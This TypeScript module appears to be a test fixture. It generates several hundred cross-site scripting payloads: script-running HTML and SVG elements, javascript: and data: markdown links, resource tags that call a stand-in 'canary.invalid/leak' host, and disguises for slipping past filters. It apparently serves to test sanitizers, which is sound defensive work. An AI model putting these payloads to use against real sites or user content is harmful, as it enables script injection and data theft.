/** What runs when a payload is executed, and where one that fetches would ask. */
export const alarm = 'window.__ran()';
export const canaryHost = 'canary.invalid';

/** Elements that run something by themselves. */
const runners: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<img src="x" onerror="${code}">`,
  (code) => `<svg onload=${code}>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${code}</script></svg>#x">`,
  (code) => `<svg><foreignObject><iframe srcdoc="<script>parent.${code}</script>"></iframe></foreignObject></svg>`,
  (code) => `<math><mi xlink:href="javascript:${code}">x</mi></math>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}></style></mglyph></table></mtext></math>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>"></iframe>`,
  (code) => `<iframe src="javascript:parent.${code}"></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<embed src="javascript:${code}">`,
  (code) => `<body onload=${code}>`,
  (code) => `<details open ontoggle=${code}>x</details>`,
  (code) => `<input autofocus onfocus=${code}>`,
  (code) => `<select autofocus onfocus=${code}></select>`,
  (code) => `<video><source onerror=${code}></video>`,
  (code) => `<audio src=x onerror=${code}>`,
  (code) => `<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=${code}>x</p>`,
  (code) => `<marquee onstart=${code}>x</marquee>`,
  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  (code) => `<base href="javascript:/a/-${code}//"><a href="#">x</a>`,
  (code) => `<form action="javascript:${code}"><input type=submit id=x autofocus></form>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<template><img src=x onerror=${code}></template>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<textarea><img title="</textarea><img src=x onerror=${code}>"></textarea>`,
  (code) => `<title><img title="</title><img src=x onerror=${code}>"></title>`,
  (code) => `<!--><img src=x onerror=${code}>-->`,
  (code) => `<![CDATA[><img src=x onerror=${code}>]]>`,
  (code) => `<x onclick=${code} tabindex=1 id=x autofocus onfocus=${code}>x</x>`,
  (code) => `<link rel=import href="data:text/html,<script>${code}</script>">`,
];

/** Elements and words that ask an address for something. */
const askers: readonly ((url: string) => string)[] = [
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 1x">`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<link rel=prefetch href="${url}">`,
  (url) => `<link rel=dns-prefetch href="${url}">`,
  (url) => `<style>@import url(${url});</style>`,
  (url) => `<p style="background:url(${url})">x</p>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<video poster="${url}" src="${url}"></video>`,
  (url) => `<svg><image href="${url}"/></svg>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<input type=image src="${url}">`,
  (url) => `<body background="${url}">`,
  (url) => `![x](${url})`,
  (url) => `[![x](${url})](${url})`,
  (url) => `![x][r]\n\n[r]: ${url}`,
  (url) => `[click here](${url})`,
  (url) => `<${url}>`,
  (url) => url,
];

/** Markdown that makes links of code. */
const links: readonly ((code: string) => string)[] = [
  (code) => `[x](javascript:${code})`,
  (code) => `[x](java\tscript:${code})`,
  (code) => `[x](&#106;avascript:${code})`,
  (code) => `[x](JaVaScRiPt:${code})`,
  (code) => `[x](data:text/html,<script>${code}</script>)`,
  (code) => `[x](vbscript:${code})`,
  (code) => `[x]: javascript:${code}\n\n[x]`,
  (code) => `<javascript:${code}>`,
  (code) => `![x" onerror="${code}](x)`,
  (code) => `\`\`\`html\n<script>${code}</script>\n\`\`\``,
  (code) => `\`<img src=x onerror=${code}>\``,
  (code) => `| a |\n|---|\n| <img src=x onerror=${code}> |`,
  (code) => `- <script>${code}</script>`,
  (code) => `> <svg onload=${code}>`,
  (code) => `# <img src=x onerror=${code}>`,
  (code) => `$$\\href{javascript:${code}}{x}$$`,
];

/** Ways to hide it. */
const disguises: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"><${payload.startsWith('<') ? payload.slice(1) : payload}`,
  (payload) => `'">${payload}`,
  (payload) => `</p></div></main>${payload}`,
  (payload) => payload.replace(/<(\w)/g, (_, letter: string) => `<${letter.toUpperCase()}`),
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => payload.replaceAll('<', '\u003c\u200b'),
  (payload) => `{{constructor.constructor('${alarm}')()}}${payload}`,
  (payload) => `\${${alarm}}${payload}`,
  (payload) => `[1] ${payload} [2][99]`,
];

/** At least 500 different texts, each of which would raise the alarm or ask `canaryHost` if a page took it for markup. */
export function xssPayloads(): string[] {
  const url = `https://${canaryHost}/leak?`;
  const plain = [
    ...runners.map((make) => make(alarm)),
    ...askers.map((make) => make(url)),
    ...links.map((make) => make(alarm)),
  ];
  return [...new Set(plain.flatMap((payload) => disguises.map((disguise) => disguise(payload))))];
}
